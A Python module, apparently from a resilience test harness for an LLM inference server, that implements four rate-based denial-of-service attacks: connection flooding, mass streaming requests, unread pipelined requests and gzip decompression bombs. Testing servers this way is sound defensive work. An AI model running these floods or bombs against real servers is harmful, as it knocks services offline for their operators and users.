"""Attacks by rate: each request is small and right, and there are more of them than anybody needs."""

from __future__ import annotations

import contextlib
import gzip
import itertools
import random
import socket
import time
from collections import Counter, deque

import msgspec

from .attack import REFUSALS, UNANSWERED, attack
from .plan import Target
from .wire import Exchange, connect, converse, make_head, make_request

_CONNECTIONS_A_S = 2000
_TICK_S = 0.01
_NUM_OPEN = 200  # of them; then the oldest is closed, answered or not
_NUM_READERS = 200
_NUM_PIPELINED = 400
_REQUESTS_A_PIECE = 20
_NUM_BOMBS = 200
_BOMB_BYTES = 2**24


@attack("new-connections", {"opened", "not accepted"})
def _open_connections(target: Target, _rng: random.Random, until: float) -> Counter[str]:
    """2,000 connections a second, each with a request whose answer is not waited for."""
    answers: Counter[str] = Counter()
    connections: deque[socket.socket] = deque()
    request = f"GET /v1/models HTTP/1.1\r\nHost: {target.host}\r\n\r\n".encode()
    with contextlib.ExitStack() as stack:
        while (now := time.monotonic()) < until:
            for _ in range(target.shrink(int(_CONNECTIONS_A_S * _TICK_S))):
                try:
                    connection = connect(target)
                    connection.send(request)
                except OSError:
                    answers["not accepted"] += 1
                    continue
                stack.callback(connection.close)
                connections.append(connection)
                answers["opened"] += 1
            while len(connections) > _NUM_OPEN:
                connections.popleft().close()
            time.sleep(max(0.0, now + _TICK_S - time.monotonic()))
    return answers


@attack("new-streams", REFUSALS | UNANSWERED | {"200"})
def _open_streams(target: Target, _rng: random.Random, until: float) -> Counter[str]:
    """200 readers, each of which opens a stream, reads its one token, and opens the next."""
    answers: Counter[str] = Counter()
    body = {"model": target.model, "prompt": [1, 2, 3], "max_tokens": 1, "stream": True}
    request = make_request(target, "/v1/completions", msgspec.json.encode(body))
    while time.monotonic() < until:
        answers += converse(target, [Exchange([request]) for _ in range(target.shrink(_NUM_READERS))], until)
    return answers


@attack("pipelined", REFUSALS | UNANSWERED | {"200"})
def _pipeline(target: Target, _rng: random.Random, until: float) -> Counter[str]:
    """400 connections with requests behind each other, as many as are taken; their answers are not read."""
    request = make_request(target, "/tokenize", msgspec.json.encode({"model": target.model, "prompt": "a b"}))
    piece = request * _REQUESTS_A_PIECE
    crowd = [Exchange(itertools.repeat(piece), reads=False) for _ in range(target.shrink(_NUM_PIPELINED))]
    return converse(target, crowd, until)


@attack("packed-bodies", REFUSALS | UNANSWERED)
def _send_bombs(target: Target, _rng: random.Random, until: float) -> Counter[str]:
    """Bodies of 16 kB that unpack to twice what a body may have."""
    body = gzip.compress(bytes(target.shrink(_BOMB_BYTES)))
    headers = ("Content-Type: application/json", "Content-Encoding: gzip", f"Content-Length: {len(body)}")
    request = make_head(target, "/v1/completions", headers, target.api_key) + b"\r\n" + body
    return converse(target, [Exchange([request]) for _ in range(target.shrink(_NUM_BOMBS))], until)
